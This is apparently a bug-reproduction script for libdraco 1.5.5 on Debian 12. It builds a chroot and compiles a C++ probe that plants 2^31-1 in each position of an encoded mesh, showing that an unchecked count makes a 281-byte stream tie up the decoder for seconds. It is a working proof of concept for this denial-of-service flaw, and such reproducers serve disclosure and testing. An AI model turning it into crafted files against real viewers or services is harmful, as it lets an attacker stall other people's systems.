#!/usr/bin/env bash
# libdraco decodes two thousand million bits of a stream that has none of them: 281 bytes take seconds.
#
# One would guess: a decoder that is fed by strangers holds the counts that a stream announces against its bytes or its mesh.
# What happens: where texture coordinates are predicted from positions, the stream says how many orientations follow (32 bits).
# It is held against 0 alone. Room for as many bits is taken (256 MB), and the coder hands out bits where no bytes are left.
# Then the attribute is refused. Each attribute of a stream can do so.
# Version: libdraco-dev 1.5.5+dfsg-2 (Debian 12). Seen: 2026-12-01.
# Why it matters: a small file of many primitives keeps a viewer busy for minutes. No hook of the decoder's classes comes between.
# Exit status: 0 as described, 1 behaviour changed, 2 cannot be had here.
# shellcheck disable=SC2016
set -euo pipefail
((EUID == 0)) || { echo "needs root, for chroot" >&2; exit 2; }
tmp=$(mktemp -d)
trap 'rm -rf --one-file-system "$tmp"' EXIT
root=$tmp/root

# makeRoot SUITE PACKAGES…: unpacks them, and what they depend on, into $root. Nothing is installed; no maintainer script runs.
makeRoot() {
  local suite=$1 site deb
  shift
  site=$(apt-get indextargets --format '$(SITE)|$(CODENAME)' 'Created-By: Packages' | sed -n 's/|bookworm$//p' | head -n 1)
  mkdir -p "$tmp"/{none,lists/partial,archives/partial} "$root"/{usr/{bin,sbin,lib,lib64},dev,proc,sys,tmp,root}
  for dir in bin sbin lib lib64; do ln -s usr/$dir "$root/$dir"; done
  printf 'deb [signed-by=/usr/share/keyrings/debian-archive-keyring.gpg] %s %s main\n' "$site" "$suite" > "$tmp/sources.list"
  : > "$tmp/status"
  # what the machine has apt do after an update (to its own caches) is none of this root's business
  { cat /etc/apt/apt.conf || true; printf '#clear APT::Update::Post-Invoke%s;\n' "" -Success; } > "$tmp/main.conf" 2> /dev/null
  echo "Dir::Etc::Main \"$tmp/main.conf\";" > "$tmp/apt.conf"
  local apt=(env APT_CONFIG="$tmp/apt.conf" apt-get -qq -o Dir::Etc::SourceList="$tmp/sources.list" -o Dir::Etc::SourceParts="$tmp/none"
    -o Dir::Etc::Preferences="$tmp/none/p" -o Dir::Etc::PreferencesParts="$tmp/none" -o Dir::State::Lists="$tmp/lists"
    -o Dir::State::Status="$tmp/status" -o Dir::State::extended_states="$tmp/extended" -o Dir::Cache="$tmp"
    -o Dir::Cache::Archives="$tmp/archives" -o APT::Sandbox::User=root)
  "${apt[@]}" update
  "${apt[@]}" install --download-only --no-install-recommends -y "$@" > /dev/null
  for deb in "$tmp"/archives/*.deb; do dpkg-deb --fsys-tarfile "$deb" | tar -x -C "$root" --keep-directory-symlink; done
  rm -f "$tmp"/archives/*.deb
  mknod -m 666 "$root/dev/null" c 1 3
  mknod -m 666 "$root/dev/zero" c 1 5
  mknod -m 666 "$root/dev/urandom" c 1 9
}

# inRoot COMMAND…: runs it there, with a /proc and a /sys that go away with it.
inRoot() {
  unshare --mount --propagation private sh -c 'mount -t proc proc "$0/proc" && mount --rbind /sys "$0/sys" && exec chroot "$0" "$@"' "$root" "$@"
}

makeRoot bookworm libdraco-dev=1.5.5+dfsg-2 g++-12

cat > "$root/tmp/probe.cpp" <<'END'
// Encodes a grid with texture coordinates, puts 2^31 - 1 in the place of every four bytes in turn, decodes each copy, and
// prints bytes of the stream, and the longest time that one took, seconds. Status 0 if that is longer than half a second.
#include <draco/compression/decode.h>
#include <draco/compression/encode.h>
#include <draco/mesh/triangle_soup_mesh_builder.h>

#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>

int main() {
  constexpr int kSide = 4;
  draco::TriangleSoupMeshBuilder builder;
  builder.Start(2 * kSide * kSide);
  const int p = builder.AddAttribute(draco::GeometryAttribute::POSITION, 3, draco::DT_FLOAT32);
  const int t = builder.AddAttribute(draco::GeometryAttribute::TEX_COORD, 2, draco::DT_FLOAT32);
  int face = 0;
  for (int y = 0; y < kSide; ++y)
    for (int x = 0; x < kSide; ++x)
      for (int half = 0; half < 2; ++half, ++face) {
        float point[3][3], uv[3][2];
        const int corners[2][3][2] = {{{0, 0}, {1, 0}, {0, 1}}, {{1, 0}, {1, 1}, {0, 1}}};
        for (int c = 0; c < 3; ++c) {
          const float u = float(x + corners[half][c][0]), v = float(y + corners[half][c][1]);
          point[c][0] = u, point[c][1] = v, point[c][2] = 0.1F * u * v;
          uv[c][0] = u / kSide, uv[c][1] = v * v / kSide;
        }
        builder.SetAttributeValuesForFace(p, draco::FaceIndex(face), point[0], point[1], point[2]);
        builder.SetAttributeValuesForFace(t, draco::FaceIndex(face), uv[0], uv[1], uv[2]);
      }
  draco::Encoder encoder;
  encoder.SetAttributeQuantization(draco::GeometryAttribute::POSITION, 11);
  encoder.SetAttributeQuantization(draco::GeometryAttribute::TEX_COORD, 10);
  encoder.SetSpeedOptions(0, 0);
  draco::EncoderBuffer packed;
  const auto mesh = builder.Finalize();
  if (!mesh || !encoder.EncodeMeshToBuffer(*mesh, &packed).ok()) return 2;
  double longest = 0;
  for (std::size_t at = 11; at + 4 <= packed.size(); ++at) {
    std::string copy(packed.data(), packed.size());
    const std::int32_t many = 0x7fffffff;
    std::memcpy(&copy[at], &many, 4);
    draco::DecoderBuffer buffer;
    buffer.Init(copy.data(), copy.size());
    const auto begin = std::chrono::steady_clock::now();
    try {
      draco::Decoder().DecodeMeshFromBuffer(&buffer);
    } catch (const std::exception&) {
    }
    const double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - begin).count();
    longest = seconds > longest ? seconds : longest;
  }
  std::printf("%zu bytes, %.2f s\n", packed.size(), longest);
  return longest > 0.5 ? 0 : 1;
}
END
inRoot g++-12 -O1 /tmp/probe.cpp -o /tmp/probe -ldraco
if said=$(inRoot /tmp/probe); then
  echo "as described: $said"
else
  echo "NOT as described: $said"
  exit 1
fi
